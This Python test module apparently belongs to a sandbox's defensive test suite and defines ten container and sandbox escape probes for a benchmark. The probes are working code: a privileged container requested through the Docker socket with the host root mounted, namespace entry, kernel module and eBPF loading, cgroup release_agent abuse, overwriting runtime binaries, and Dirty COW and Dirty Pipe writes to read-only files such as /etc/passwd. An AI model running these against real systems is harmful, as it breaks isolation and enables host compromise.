"""What the scenarios of SandboxEscapeBench need beyond the other classes: tests/attacks/escape_bench.py
says which attacks play which scenario."""

from __future__ import annotations

from tests.attacks.attack import Attack, AttackClass
from tests.attacks.classes.files import NOT_MOUNTED
from tests.attacks.classes.root import CALL, NO_NEW, SECCOMP

KERNEL = "the kernel's own correction: sandboxes of these engines share it with the host"
OLD_KERNEL = "this machine's kernel has been corrected"

# A container that has the host's root, asked for by hand: no client of an engine is needed.
_SOCKET = """
import json, socket
for path in ("@DOCKER_SOCK@", "@PODMAN_SOCK@", "/var/run/docker.sock", "/run/podman/podman.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(300)
        s.connect(path)
        body = json.dumps({"Image": "none-such", "HostConfig": {"Privileged": True, "Binds": ["/:/h"]}})
        s.sendall(f"POST /v1.41/containers/create HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: "
                  f"application/json\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}".encode())
        # There is no such image, which only an engine knows.
        print("PWNED" if b"HTTP/1." in s.recv(200) else "silent", path)
    except OSError as error:
        print(path, error)
"""

_PRIVILEGED = (
    CALL
    + """
import re
made = [l.split() for l in open("/proc/partitions").read().splitlines()[2:]]
for major, minor, _, name in made[:4]:
    os.makedirs("/tmp/disk", exist_ok=True)
    place = f"/tmp/node-{name}"
    for path in (place, f"/dev/{name}"):
        try:
            if path == place:
                os.mknod(path, 0o60600, os.makedev(int(major), int(minor)))
                print("PWNED", path)
                os.unlink(path)
            else:
                os.close(os.open(path, os.O_RDONLY))
                print("PWNED", path)
        except OSError as error:
            print(path, error)
# Nothing is mounted from a disk: the right to do so is enough.
if libc.unshare(0x00020000) == 0 and libc.mount(None, b"/", None, 0x4000 | 0x40000, None) == 0:
    print("PWNED mount")
"""
)

_ENTER = (
    CALL
    + """
for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()))[:40]:
    for kind in ("mnt", "net", "pid", "uts", "ipc", "cgroup"):
        try:
            theirs = os.stat(f"/proc/{pid}/ns/{kind}").st_ino
            if theirs == os.stat(f"/proc/self/ns/{kind}").st_ino and kind != "uts":
                continue
            with open(f"/proc/{pid}/ns/{kind}") as space:
                if libc.setns(space.fileno(), 0) == 0:
                    print("PWNED", pid, kind)
        except OSError:
            continue
"""
)

_MODULE = (
    CALL
    + """
open("/tmp/x.ko", "wb").write(b"\\x7fELF" + bytes(200))
with open("/tmp/x.ko", "rb") as file:
    print("finit_module", loaded := call(313, 273, file.fileno(), b"", 0))
empty = ctypes.create_string_buffer(b"\\x7fELF" + bytes(200))
print("init_module", made := call(175, 105, empty, 200, b""))
# An error about what is in the file is one of a kernel that would load a better one.
if {loaded, made} - {-1, -38, -13}:
    print("PWNED")
"""
)

# Its bytes are left alone. Its times are not, by which the host sees what was reached.
_RUNTIME = """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    path = f"/proc/{pid}/exe"
    try:
        print(pid, os.readlink(path), open(f"/proc/{pid}/cmdline", "rb").read()[:80])
        os.utime(path, (0, 0))
        os.chmod(path, os.stat(path).st_mode & 0o7777)
        os.close(os.open(path, os.O_WRONLY))
        print("PWNED", pid)
    except OSError as error:
        print(pid, error)
"""

_DESCRIPTORS = """
import os
def outside(path):
    "Whether a folder leads to a root that has this attack's canary."
    return os.path.exists(f"{path}/../../../../../../../..@PUBLIC@")
for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    try:
        links = [f"/proc/{pid}/cwd", *(f"/proc/{pid}/fd/{n}" for n in os.listdir(f"/proc/{pid}/fd"))]
    except OSError:
        continue
    for link in links:
        if os.path.isdir(link) and outside(link):
            print(open(f"{link}/../../../../../../../..@PUBLIC@").read())
            raise SystemExit
for number in range(64):
    if outside(f"/proc/self/fd/{number}"):
        print("PWNED", number)
"""

# A version 1 control group is what has a release agent; the RDMA one is the usual way to it.
_RELEASE = (
    CALL
    + """
import glob
print("unshare", libc.unshare(0x00020000 | 0x02000000))
os.makedirs("/tmp/cg", exist_ok=True)
for name in (b"rdma", b"memory", b"pids"):
    if libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, name) == 0:
        print("PWNED mounted", name)
        libc.umount2(b"/tmp/cg", 2)
        break
for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)[:50]:
    try:
        os.close(os.open(path, os.O_WRONLY))
        print("PWNED", path)
        break
    except OSError as error:
        print(path, error)
"""
)

# The smallest program that there is, r0 = 0; exit: whoever may load it may load a worse one.
_BPF = (
    CALL
    + """
code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))
license = ctypes.create_string_buffer(b"GPL")
for kind in (1, 2):
    attributes = bytearray(120)
    attributes[0:8] = kind.to_bytes(4, "little") + (2).to_bytes(4, "little")
    attributes[8:16] = ctypes.addressof(code).to_bytes(8, "little")
    attributes[16:24] = ctypes.addressof(license).to_bytes(8, "little")
    said = call(321, 280, 5, (ctypes.c_char * 120).from_buffer(attributes), 120)
    print("BPF_PROG_LOAD", kind, said)
    if said >= 0:
        print("PWNED")
"""
)

_READ_ONLY = """
import os
def target():
    "A file of the host's that is mounted read-only, and what it begins with."
    for path in ("/rover/spec/spec.json", "/etc/passwd"):
        if os.path.exists(path) and not os.access(path, os.W_OK):
            return path, open(path, "rb").read(64)
    raise SystemExit("there is no file that is read-only")
path, before = target()
"""

_COW = (
    _READ_ONLY
    + """
import mmap, threading, time
file = os.open(path, os.O_RDONLY)
shown = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
end = time.monotonic() + 1
address = next(int(l.split("-")[0], 16) for l in open("/proc/self/maps") if path in l)
def forget():
    while time.monotonic() < end:
        shown.madvise(mmap.MADV_DONTNEED)
racing = threading.Thread(target=forget)
racing.start()
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(memory, b"DIRTY-COW", address)
except OSError as error:
    print(error)
racing.join()
if open(path, "rb").read(64) != before:
    print("PWNED", path)
"""
)

_PIPE = (
    _READ_ONLY
    + """
reads, writes = os.pipe()
size = 65536
os.write(writes, bytes(size))
os.read(reads, size)
file = os.open(path, os.O_RDONLY)
try:
    os.splice(file, writes, 1, offset_src=0)
    os.write(writes, b"DIRTY-PIPE")
except OSError as error:
    print(error)
if open(path, "rb").read(64) != before:
    print("PWNED", path)
"""
)

CLASS = AttackClass(
    "bench",
    "what SandboxEscapeBench's scenarios need beyond the above",
    (
        Attack(
            "bench-docker-socket",
            "start a container that has the host's root, through the engine's socket",
            _SOCKET,
            NOT_MOUNTED,
            language="python",
        ),
        Attack(
            "bench-privileged",
            "use the rights of a privileged container: the host's disks, mounts",
            _PRIVILEGED,
            NO_NEW,
            language="python",
            opened=False,
            closed="which disks and rights a machine has differs",
        ),
        Attack(
            "bench-enter-namespaces",
            "enter the name spaces of other processes (setns)",
            _ENTER,
            f"{NO_NEW}; a process namespace of its own",
            language="python",
            opened=False,
            closed="without root there are no others to enter on this machine",
        ),
        Attack(
            "bench-load-module",
            "load a module into the kernel",
            _MODULE,
            SECCOMP,
            language="python",
            opened=False,
            closed="no test loads anything into this machine's kernel",
        ),
        Attack(
            "bench-overwrite-runtime",
            "overwrite the program of the runtime, the init or the runner through /proc",
            _RUNTIME,
            "another user's program (containers), or a copy for this attempt alone (bubblewrap)",
            language="python",
            opened=False,
            closed="it would change this machine's programs",
        ),
        Attack(
            "bench-leaked-descriptors",
            "find a descriptor or a working folder that leads out of the sandbox",
            _DESCRIPTORS,
            "no descriptor of a folder outside is inherited",
            language="python",
        ),
        Attack(
            "bench-release-agent",
            "have the kernel run a release agent of a control group",
            _RELEASE,
            f"{NO_NEW}; control groups read-only or not there",
            language="python",
            opened=False,
            closed="which control groups a machine has differs",
        ),
        Attack(
            "bench-bpf",
            "load a program into the kernel (eBPF)",
            _BPF,
            SECCOMP,
            language="python",
            opened=False,
            closed="where the kernel keeps it from ordinary users it fails there, too",
        ),
        Attack(
            "bench-dirty-cow",
            "write to a read-only file by a race with the kernel",
            _COW,
            KERNEL,
            language="python",
            opened=False,
            closed=OLD_KERNEL,
        ),
        Attack(
            "bench-dirty-pipe",
            "write to a read-only file through a pipe",
            _PIPE,
            KERNEL,
            language="python",
            opened=False,
            closed=OLD_KERNEL,
        ),
    ),
)
